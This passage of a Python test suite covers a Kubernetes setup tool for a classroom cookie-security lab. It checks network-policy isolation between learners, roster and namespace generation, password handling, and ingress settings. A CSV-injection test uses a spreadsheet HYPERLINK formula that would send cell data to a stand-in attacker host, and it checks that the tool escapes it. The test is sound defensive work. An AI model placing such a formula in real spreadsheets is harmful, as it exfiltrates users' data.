                [ingress({"from": [peer({"matchExpressions": [{"key": "a", "operator": "Gt", "values": ["1"]}]})]})]
            ),
            WEB,
            SHOP_CLIENT,
            8080,
        )


def test_every_namespace_denies_by_default(klass):
    objects, _, _ = klass
    for namespace in namespace_labels(objects):
        deny = [
            o
            for o in objects
            if o["kind"] == "NetworkPolicy"
            and o["metadata"]["namespace"] == namespace
            and o["spec"]["podSelector"] == {}
            and not o["spec"].get("ingress")
        ]
        assert any(set(o["spec"]["policyTypes"]) == {"Ingress", "Egress"} and "egress" not in o["spec"] for o in deny)


def test_no_learner_reaches_another_learners_namespace(klass):
    objects, _, _ = klass
    learners = list(namespace_labels(objects))
    for target in learners:
        for source in learners:
            if source == target:
                continue
            for pod in pods(objects, target).values():
                for source_pod in pods(objects, source).values():
                    # The lab's ports, and every port the pod's containers open.
                    for port in sorted({8000, 8080, 8081} | {number for _, number, _ in pod.ports}):
                        assert not admits(objects, pod, source_pod, port), (source, target, pod, port)


def test_the_proxy_trusts_x_forwarded_proto_where_only_the_ingress_controller_can_send_it(tmp_path):
    """The proxy records the learner's scheme from X-Forwarded-Proto, so only a sender that writes that header
    truthfully may reach its traffic port: the ingress controller, in the namespace scripts/class is told
    (ingress-nginx overwrites the header unless its use-forwarded-headers is on; docs/CLASSROOM.md). Inside
    the learner's namespace the seed Job reaches it too: the lab's own client, which sends no such header,
    in a namespace where learners start nothing."""
    controller = "edge-system"
    proc = make_class(tmp_path, ["Ada", "Bob"], "--registry", "r.example/c", "--ingress-namespace", controller)
    assert proc.returncode == 0, proc.stderr
    objects = render(tmp_path / "class")
    learners = list(namespace_labels(objects))
    # The chosen controller's namespace, the default one that was not chosen, and two more, as the API labels them.
    others = [controller, "ingress-nginx", "kube-system", "default"]
    world = objects + [{"kind": "Namespace", "metadata": {"name": name}} for name in others]
    # A pod anywhere may carry any labels: the lab's own, a controller's, none.
    candidates = {f"lab's {name}": labels for name, labels in pod_labels(objects, learners[0]).items()}
    candidates["controller"] = {"app.kubernetes.io/name": "ingress-nginx", "app.kubernetes.io/component": "controller"}
    candidates["unlabelled"] = {}
    for namespace in learners:
        proxy = container_in(objects, namespace, "proxy")
        assert options(resolved_args(proxy))["lab_trust_forwarded_proto"] == "true"
        traffic = next(p["containerPort"] for p in proxy["ports"] if p["name"] == "traffic")
        target = pods(objects, namespace)["proxy"]
        admitted = {
            (source, who)
            for source in learners + others
            for who, labels in candidates.items()
            if admits(world, target, Pod(source, labels), traffic)
        }
        assert (controller, "controller") in admitted
        assert {source for source, _ in admitted if source != namespace} == {controller}, namespace
        assert {who for source, who in admitted if source == namespace} == {"lab's client"}, namespace
    # The app's Ingress is the way in: it leads to that port, and no annotation rewrites the forwarded headers.
    for ingress in (o for o in objects if o["kind"] == "Ingress"):
        assert not [k for k in ingress["metadata"].get("annotations", {}) if "snippet" in k or "forwarded" in k]
    apps = [o for o in objects if o["kind"] == "Ingress" and o["metadata"]["name"] == "app"]
    assert {
        p["backend"]["service"]["port"]["name"] for o in apps for r in o["spec"]["rules"] for p in r["http"]["paths"]
    } == {"traffic"}
    # No Service opens a port outside the cluster, around the controller.
    assert all(o["spec"].get("type", "ClusterIP") == "ClusterIP" for o in objects if o["kind"] == "Service")
    # The seed Job's client never writes the header.
    client = "\n".join(p.read_text(encoding="utf-8") for p in (SERVICES / "client").rglob("*.py"))
    assert "forwarded-proto" not in client.lower()


def test_only_the_proxy_reaches_the_apps_port(klass):
    objects, _, _ = klass
    for namespace in namespace_labels(objects):
        lab = pods(objects, namespace)
        for name, pod in lab.items():
            assert admits(objects, lab["app"], pod, 8000) == (name == "proxy"), name


def test_inside_a_learners_namespace_only_the_labs_own_hops_connect(klass):
    """Both sides at once: the source's egress and the destination's ingress, on every port each pod opens."""
    objects, _, _ = klass
    namespace = next(iter(namespace_labels(objects)))
    lab = pods(objects, namespace)
    hops = {
        (source, target, port, protocol)
        for source, a in lab.items()
        for target, b in lab.items()
        if source != target
        for _, port, protocol in b.ports
        if connects(objects, a, b, port, protocol)
    }
    assert hops == {("client", "proxy", 8080, "TCP"), ("proxy", "app", 8000, "TCP")}
    # The cluster's DNS, and nothing else beside it.
    dns = Pod(
        "kube-system", {"k8s-app": "kube-dns"}, (("dns", 53, "UDP"), ("dns-tcp", 53, "TCP"), ("metrics", 9153, "TCP"))
    )
    for name, pod in lab.items():
        assert connects(objects, pod, dns, 53, "UDP") and connects(objects, pod, dns, 53, "TCP"), name
        assert not connects(objects, pod, dns, 9153), name
        assert not connects(objects, pod, Pod("kube-system", {"k8s-app": "other"}), 53, "UDP"), name


def test_egress_is_dns_and_the_one_hop_each_pod_needs(klass):
    objects, _, _ = klass
    namespace = next(iter(namespace_labels(objects)))
    allowed = {}
    for policy in (o for o in objects if o["kind"] == "NetworkPolicy" and o["metadata"]["namespace"] == namespace):
        for rule in policy["spec"].get("egress", []):
            for peer in rule["to"]:
                assert "ipBlock" not in peer
            for pod, labels in pod_labels(objects, namespace).items():
                if selects(policy["spec"]["podSelector"], labels) or policy["spec"]["podSelector"] == {}:
                    allowed.setdefault(pod, set()).add(policy["metadata"]["name"])
    assert allowed == {
        "app": {"dns"},
        "site": {"dns"},
        "proxy": {"dns", "proxy-to-app"},
        "client": {"dns", "client-to-proxy"},
    }


# --- the roster command -------------------------------------------------------------------


def roster(folder: Path) -> list[dict]:
    with open(folder / "roster.csv", encoding="utf-8") as file:
        return list(csv.DictReader(file))


DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")


def test_names_of_every_kind_give_valid_distinct_namespaces_with_clear_messages(tmp_path):
    names = [
        "Ada Lovelace",
        "Zoë Ünal",
        "ada lovelace",
        "🙂",
        "O'Brien, Mary-Kate",
        "x" * 80,
        "x" * 81,
        "learner-4",
        "李雷",
        "Łukasz Żółć",
        "Øystein Ærø",
    ]
    proc = make_class(tmp_path, names)
    assert proc.returncode == 0, proc.stderr
    rows = roster(tmp_path / "class")
    assert [r["learner"] for r in rows] == names
    spaces = [r["namespace"] for r in rows]
    assert len(set(spaces)) == len(spaces)
    assert all(DNS_LABEL.match(ns) and len(ns) <= 63 for ns in spaces)
    assert spaces[:5] == [
        "cookielab-ada-lovelace",
        "cookielab-zoe-unal",
        "cookielab-ada-lovelace-2",
        "cookielab-learner-4",
        "cookielab-o-brien-mary-kate",
    ]
    assert spaces[7] == "cookielab-learner-4-2"
    # Transliterated, never dropped: no letter of a name is lost.
    assert spaces[8:] == ["cookielab-li-lei", "cookielab-lukasz-zolc", "cookielab-oystein-aero"]
    assert "'Zoë Ünal': namespace cookielab-zoe-unal (a namespace takes a-z, 0-9 and -)" in proc.stderr
    assert (
        "'ada lovelace': the namespace cookielab-ada-lovelace is taken; using cookielab-ada-lovelace-2" in proc.stderr
    )
    assert "'🙂': no letters or digits to spell; namespace cookielab-learner-4" in proc.stderr
    assert "'Łukasz Żółć': namespace cookielab-lukasz-zolc (a namespace takes a-z, 0-9 and -)" in proc.stderr


def test_passwords_are_random_and_different_per_learner(tmp_path):
    first = make_class(tmp_path / "1", ["Ada", "Bob", "Eve"])
    second = make_class(tmp_path / "2", ["Ada", "Bob", "Eve"])
    assert first.returncode == second.returncode == 0
    passwords = [r["password"] for d in ("1", "2") for r in roster(tmp_path / d / "class")]
    assert len(set(passwords)) == 6 and all(len(p) >= 16 for p in passwords)
    # Letters and digits only: never a leading `-`, which a shell or a spreadsheet reads as something else.
    assert all(re.fullmatch(r"[A-Za-z0-9]+", p) for p in passwords)
    listing = tmp_path / "1" / "class" / "roster.csv"
    assert stat.S_IMODE(os.stat(listing).st_mode) == 0o600


def test_each_learners_proxy_and_site_name_their_own_addresses(klass):
    """mitmweb's lab_ui_url is patched through its variable, by name; the second site links to the learner's app."""
    objects, _, folder = klass
    for row in roster(folder):
        proxy = container_in(objects, row["namespace"], "proxy")
        assert options(resolved_args(proxy))["lab_ui_url"] == row["mitmweb"]
        site = {e["name"]: e["value"] for e in container_in(objects, row["namespace"], "site")["env"]}
        app = row["app"].removesuffix("/lab/")
        assert site == {"LAB_APP_URL": app, "LAB_APP_HTTPS_URL": app}  # https on the class's default --scheme


def test_each_learners_guide_shows_their_own_addresses(klass):
    """The guide (the progress container) rewrites the sheets' addresses to the learner's, and the solved
    lines of the learner's proxy name the learner's guide."""
    objects, _, folder = klass
    for row in roster(folder):
        proxy = container_in(objects, row["namespace"], "proxy")
        assert options(resolved_args(proxy))["lab_guide_url"] == row["progress"]
        guide = {e["name"]: e["value"] for e in container_in(objects, row["namespace"], "progress")["env"]}
        assert guide["LAB_APP_URL"] == row["app"].removesuffix("lab/")
        assert guide["LAB_WEB_URL"] == row["mitmweb"] and guide["LAB_GUIDE_URL"] == row["progress"]
        assert guide["LAB_GUIDE_PLACE"] == "cluster" and guide["LAB_GUIDE_SOLUTIONS"] == "0"


def test_the_roster_prints_every_learners_addresses_and_password(klass):
    _, proc, folder = klass
    rows = roster(folder)
    for row in rows:
        line = next(line for line in proc.stdout.splitlines() if row["namespace"] + " " in line)
        for key in ("app", "mitmweb", "second site", "progress", "password"):
            assert row[key] in line
    ada = rows[0]
    assert ada["app"] == "https://app-ada-lovelace.lab.example.org/lab/"
    assert ada["mitmweb"] == "https://mitmweb-ada-lovelace.lab.example.org/"
    assert ada["second site"] == "https://site-ada-lovelace.other.example.net/"


def test_a_csv_class_list_and_bad_input_get_clear_answers(tmp_path):
    listing = tmp_path / "class.csv"
    listing.write_text("id,name\n1,Ada\n2,Bob\n", encoding="utf-8")
    out = tmp_path / "out"
    ok = subprocess.run(
        [
            sys.executable,
            str(CLASS),
            "create",
            str(listing),
            "--domain",
            "lab.example.org",
            "--registry",
            "r.example/c",
            "--out",
            str(out),
        ],
        check=False,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert ok.returncode == 0 and sorted(p.name for p in out.iterdir() if p.is_dir()) == ["ada", "bob"]
    assert "same-site to the app" in ok.stderr  # one domain only: sheet 06 cannot work, and it says so
    again = subprocess.run(
        [
            sys.executable,
            str(CLASS),
            "create",
            str(listing),
            "--domain",
            "lab.example.org",
            "--registry",
            "r.example/c",
            "--out",
            str(out),
        ],
        check=False,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert again.returncode == 2 and "is not empty; give another --out, or --force" in again.stderr
    empty = tmp_path / "empty.txt"
    empty.write_text("# nobody yet\n\n", encoding="utf-8")
    none = subprocess.run(
        [sys.executable, str(CLASS), "create", str(empty), "--domain", "x.example", "--registry", "r.x"],
        check=False,
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
    )
    assert none.returncode == 2 and "no learner names" in none.stderr


def test_each_learner_gets_the_labs_exercise_index(klass):
    objects, _, _ = klass
    maps = [o for o in objects if o["kind"] == "ConfigMap" and o["metadata"]["name"].startswith("lab-exercises")]
    assert len(maps) == 3
    assert all(m["data"]["exercises.toml"] == (LAB / "exercises.toml").read_text(encoding="utf-8") for m in maps)


def test_progress_from_every_learner_merges_into_one_table(tmp_path):
    from cookie_client import progress

    capture = tmp_path / "cookies.jsonl"
    capture.write_text(
        '{"time": "2026-11-29T10:00:00.000+00:00", "flow_id": "f", "solved": ["01-someone-else"]}\n', encoding="utf-8"
    )
    (tmp_path / "ada.json").write_text(json.dumps(progress.report(capture, LAB / "exercises.toml")), encoding="utf-8")
    (tmp_path / "bob.json").write_text(
        json.dumps(progress.report(tmp_path / "none.jsonl", LAB / "exercises.toml")), encoding="utf-8"
    )
    (tmp_path / "broken.json").write_text("{", encoding="utf-8")
    proc = subprocess.run(
        [sys.executable, str(CLASS), "table", *(str(tmp_path / f) for f in ("ada.json", "bob.json", "broken.json"))],
        check=False,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0
    header, ada, bob = proc.stdout.splitlines()
    assert header.split()[:3] == ["learner", "solved", "01-someone-else"]
    total = sum(len(exercise["challenge"]) for exercise in exercises())
    assert ada.split()[:4] == ["ada", "1", "of", str(total)] and ada.split()[4] == "x"
    assert bob.split()[4] == "."
    assert "broken.json: not a `progress --json` output" in proc.stderr


def test_writing_the_class_again_keeps_every_learners_password(tmp_path):
    assert make_class(tmp_path, ["Ada", "Bob"]).returncode == 0
    before = {r["namespace"]: r["password"] for r in roster(tmp_path / "class")}
    assert make_class(tmp_path, ["Ada", "Bob", "Eve"], "--registry", "r.example/c", "--force").returncode == 0
    after = {r["namespace"]: r["password"] for r in roster(tmp_path / "class")}
    assert {ns: after[ns] for ns in before} == before and after["cookielab-eve"] not in before.values()


def test_every_pod_carries_the_labels_the_instructor_selects_on(klass):
    objects, _, _ = klass
    for o in (o for o in objects if o["kind"] in ("Deployment", "Job")):
        labels = o["spec"]["template"]["metadata"]["labels"]
        assert labels["app.kubernetes.io/part-of"] == "cookie-lab"
        assert labels["app.kubernetes.io/instance"] == o["metadata"]["namespace"].removeprefix("cookielab-")
    for ns in (o for o in objects if o["kind"] == "Namespace"):
        assert ns["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] == "restricted"


def test_the_ingresses_name_the_class_and_send_http_to_https(klass):
    objects, _, _ = klass
    ingresses = [o for o in objects if o["kind"] == "Ingress"]
    assert len(ingresses) == 9
    assert all(o["spec"]["ingressClassName"] == "nginx" for o in ingresses)
    assert all(
        o["metadata"]["annotations"]["nginx.ingress.kubernetes.io/force-ssl-redirect"] == "true" for o in ingresses
    )


FORMULAS = ['=HYPERLINK("http://evil.example/?p="&G2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def test_a_name_that_a_spreadsheet_would_run_is_written_as_text(tmp_path):
    """OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote."""
    listing = tmp_path / "learners.csv"
    with open(listing, "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["name"], *([name] for name in FORMULAS), ["Ada"]])
    out = tmp_path / "class"
    args = ["create", str(listing), "--domain", "lab.example.org", "--registry", "r.example/c", "--out", str(out)]
    proc = subprocess.run([sys.executable, str(CLASS), *args], check=False, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    rows = roster(out)
    # read_names strips a name's surrounding blanks, so the tab and CR names start with a letter
    assert [r["learner"] for r in rows] == ["'" + FORMULAS[0], "'+1+1", "'-2+3", "'@SUM(A1)", "Tab", "CR", "Ada"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
    # Written again with --force: everyone keeps their password, read back through the quote.
    again = subprocess.run(
        [sys.executable, str(CLASS), *args, "--force"], check=False, capture_output=True, text=True, timeout=60
    )
    assert again.returncode == 0, again.stderr
    assert [r["password"] for r in roster(out)] == [r["password"] for r in rows]


def test_an_older_rosters_password_that_starts_with_a_dash_is_kept(tmp_path):
    listing = tmp_path / "learners.txt"
    listing.write_text("Ada\n", encoding="utf-8")
    out = tmp_path / "class"
    args = ["create", str(listing), "--domain", "lab.example.org", "--registry", "r.example/c", "--out", str(out)]
    assert (
        subprocess.run([sys.executable, str(CLASS), *args], check=False, capture_output=True, timeout=60).returncode
        == 0
    )
    row = roster(out)[0]
    with open(out / "roster.csv", "w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(row))
        writer.writeheader()
        writer.writerow({**row, "password": "-Xy_older"})  # what token_urlsafe could give
    proc = subprocess.run(
        [sys.executable, str(CLASS), *args, "--force"], check=False, capture_output=True, text=True, timeout=60
    )
    assert proc.returncode == 0, proc.stderr
    assert roster(out)[0]["password"] == "'-Xy_older"
    assert "password=-Xy_older" in (out / "ada" / "kustomization.yaml").read_text(encoding="utf-8")


def ingress_hosts(objects: list[dict]) -> dict[tuple[str, str], str]:
    """(namespace, backend service, its port) -> the host whose rule leads there, for every rendered Ingress rule."""
    return {
        (
            o["metadata"]["namespace"],
            path["backend"]["service"]["name"],
            path["backend"]["service"]["port"]["name"],
        ): rule["host"]
        for o in objects
        if o["kind"] == "Ingress"
        for rule in o["spec"]["rules"]
        for path in rule["http"]["paths"]
    }


def test_each_learners_hosts_are_written_by_name_and_nothing_else_is_applied(klass):
    objects, _, folder = klass
    hosts = ingress_hosts(objects)
    for row in roster(folder):
        ns = row["namespace"]
        assert f"https://{hosts[(ns, 'proxy', 'traffic')]}/lab/" == row["app"]
        assert f"https://{hosts[(ns, 'proxy', 'web')]}/" == row["mitmweb"]
        assert f"https://{hosts[(ns, 'site', 'http')]}/" == row["second site"]
        assert f"https://{hosts[(ns, 'progress', 'http')]}/" == row["progress"]
    assert not [h for h in hosts.values() if h.endswith(".lab.example")]  # no placeholder left
    # The learner's values are read by kustomize, never applied to the cluster.
    assert not [o for o in objects if o["metadata"]["name"] == "lab-learner"]


def test_the_base_may_reorder_its_rules_and_policies_without_breaking_a_class(tmp_path):
    """scripts/class finds every field by name: rules and peers in another order still get the right values."""
    root = tmp_path / "repo"
    shutil.copytree(ROOT / "deploy", root / "deploy")
    (root / "scripts").mkdir()
    shutil.copy(CLASS, root / "scripts" / "class")
    (root / "lab").mkdir()
    shutil.copy(ROOT / "lab" / "exercises.toml", root / "lab" / "exercises.toml")
    # The roster's table comes from the progress package.
    for package in ("services/client/cookie_client", "contract/lab_contract"):
        shutil.copytree(ROOT / package, root / package, ignore=shutil.ignore_patterns("__pycache__"))
    ingress = root / "deploy" / "kubernetes" / "base" / "ingress.yaml"
    docs = list(yaml.safe_load_all(ingress.read_text(encoding="utf-8")))
    for doc in docs:
        doc["spec"]["rules"].reverse()
    ingress.write_text(yaml.safe_dump_all(docs), encoding="utf-8")
    policies = root / "deploy" / "kubernetes" / "base" / "networkpolicies.yaml"
    docs = list(yaml.safe_load_all(policies.read_text(encoding="utf-8")))
    for doc in docs:
        for rule in doc["spec"].get("ingress", []):
            rule.get("from", []).insert(0, {"podSelector": {"matchLabels": {"app.kubernetes.io/name": "client"}}})
    policies.write_text(yaml.safe_dump_all(docs), encoding="utf-8")
    learners = tmp_path / "learners.txt"
    learners.write_text("Ada\n", encoding="utf-8")
    proc = subprocess.run(
        [sys.executable, str(root / "scripts" / "class"), "create", str(learners), "--domain", "lab.example.org",
         "--site-domain", "other.example.net", "--registry", "r.example/c", "--ingress-namespace", "edge",
         "--out", str(root / "class")],
        check=False, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    objects = render(root / "class")
    hosts = ingress_hosts(objects)
    assert hosts[("cookielab-ada", "site", "http")] == "site-ada.other.example.net"
    assert hosts[("cookielab-ada", "progress", "http")] == "progress-ada.lab.example.org"
    for name in ("ingress-to-proxy", "ingress-to-site"):
        (policy,) = [o for o in objects if o["kind"] == "NetworkPolicy" and o["metadata"]["name"] == name]
        selectors = [
            p["namespaceSelector"] for r in policy["spec"]["ingress"] for p in r["from"] if "namespaceSelector" in p
        ]
        assert selectors == [{"matchLabels": {"kubernetes.io/metadata.name": "edge"}}]


EXAMPLE = ROOT / "deploy" / "kubernetes" / "overlays" / "example"


def test_the_example_overlay_renders_valid_with_its_learners_values_in_place(tmp_path):
    """The committed example of one lab by hand: rendered as its own comment says, valid, every value found by name."""
    proc = subprocess.run(
        [str(BIN / "kubectl"), "kustomize", "--load-restrictor", "LoadRestrictionsNone", str(EXAMPLE)],
        check=False, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert "kubectl kustomize --load-restrictor LoadRestrictionsNone deploy/kubernetes/overlays/example" in (
        EXAMPLE / "kustomization.yaml"
    ).read_text(encoding="utf-8")
    objects = [doc for doc in yaml.safe_load_all(proc.stdout) if doc]
    checked = validate(objects, tmp_path)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert {o["metadata"].get("namespace", "cookielab-example") for o in objects} == {"cookielab-example"}
    hosts = ingress_hosts(objects)
    assert hosts == {
        ("cookielab-example", "proxy", "traffic"): "app-example.lab.example.org",
        ("cookielab-example", "proxy", "web"): "mitmweb-example.lab.example.org",
        ("cookielab-example", "site", "http"): "site-example.lab-site.example.net",
        ("cookielab-example", "progress", "http"): "progress-example.lab.example.org",
    }
    assert not [o for o in objects if o["metadata"]["name"] == "lab-learner"]
    proxy = next(o for o in objects if o["kind"] == "Deployment" and o["metadata"]["name"] == "proxy")
    container = next(c for c in proxy["spec"]["template"]["spec"]["containers"] if c["name"] == "proxy")
    env = {e["name"]: e.get("value") for e in container["env"]}
    assert env["LAB_UI_URL"] == "https://mitmweb-example.lab.example.org/"
    assert env["LAB_GUIDE_URL"] == "https://progress-example.lab.example.org/"
    # The guide shows the learner's own addresses, and on a cluster marks compose commands laptop only.
    guide = next(c for c in proxy["spec"]["template"]["spec"]["containers"] if c["name"] == "progress")
    guide_env = {e["name"]: e.get("value") for e in guide["env"]}
    assert guide_env["LAB_APP_URL"] == "https://app-example.lab.example.org/"
    assert guide_env["LAB_GUIDE_PLACE"] == "cluster"
    exercises_map = next(
        o for o in objects if o["kind"] == "ConfigMap" and o["metadata"]["name"].startswith("lab-exercises")
    )
    assert exercises_map["data"]["exercises.toml"] == (LAB / "exercises.toml").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def bare_python(tmp_path_factory) -> Path:
    """A Python without python-slugify, as a machine's own python3 may be: an empty venv."""
    venv = tmp_path_factory.mktemp("bare") / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=120)
    return venv / "bin" / "python"


def test_without_python_slugify_the_class_command_runs_in_the_labs_venv(bare_python, tmp_path):
    assert subprocess.run([str(bare_python), "-c", "import slugify"], check=False, capture_output=True).returncode
    # A checkout whose .venv is the one these tests run in (which has python-slugify).
    (tmp_path / "scripts").mkdir()
    shutil.copy(CLASS, tmp_path / "scripts" / "class")
    (tmp_path / ".venv").symlink_to(Path(sys.prefix), target_is_directory=True)
    proc = subprocess.run(
        [str(bare_python), str(tmp_path / "scripts" / "class"), "--help"],
        check=False,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("usage: scripts/class")


def test_without_python_slugify_or_the_labs_venv_it_says_what_to_install(bare_python, tmp_path):
    (tmp_path / "scripts").mkdir()
    shutil.copy(CLASS, tmp_path / "scripts" / "class")
    proc = subprocess.run(
        [str(bare_python), str(tmp_path / "scripts" / "class"), "--help"],
        check=False,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 1
    assert "needs python-slugify: run `python3 -m pip install python-slugify==9.2.0`" in proc.stderr


def test_a_class_on_plain_http_is_told_what_it_loses(tmp_path):
    proc = make_class(tmp_path, ["Ada"], "--registry", "r.example/c", "--scheme", "http")
    assert proc.returncode == 0, proc.stderr
    assert "--scheme http: no browser counts these addresses as secure" in proc.stderr
    assert "08-admin-in-your-browser cannot be solved" in proc.stderr
    https = make_class(tmp_path / "https", ["Ada"], "--registry", "r.example/c")
    assert "--scheme http" not in https.stderr


def test_a_learner_whose_namespace_changes_is_named_when_the_class_is_written_again(tmp_path):
    listing = tmp_path / "learners.txt"
    listing.write_text("Ada\nBob\n", encoding="utf-8")
    out = tmp_path / "class"
    args = ["create", str(listing), "--domain", "lab.example.org", "--registry", "r.example/c", "--out", str(out)]
    assert subprocess.run([sys.executable, str(CLASS), *args], check=False, capture_output=True).returncode == 0
    listing.write_text("Ada\nRobert\n", encoding="utf-8")
    again = subprocess.run([sys.executable, str(CLASS), *args, "--force"], check=False, capture_output=True, text=True)
    assert again.returncode == 0, again.stderr
    assert "1 namespace(s) of the old roster are not in the new one" in again.stderr
    assert "cookielab-bob; their labs keep running until you delete them" in again.stderr


def test_a_cell_starting_with_a_tab_or_a_carriage_return_is_quoted_too():
    """read_names strips a name's blanks, so no roster name starts with one; any other cell would be quoted."""
    loader = importlib.machinery.SourceFileLoader("class_command", str(CLASS))
    command = types.ModuleType(loader.name)
    command.__file__ = str(CLASS)
    loader.exec_module(command)
    for cell in ("\tTab", "\rCR", "=1", "+1", "-1", "@A1"):
        assert command.spreadsheet_cell(cell) == "'" + cell
        assert command.from_spreadsheet_cell(command.spreadsheet_cell(cell)) == cell
    assert command.spreadsheet_cell("Ada") == "Ada" and command.from_spreadsheet_cell("'Ada") == "'Ada"
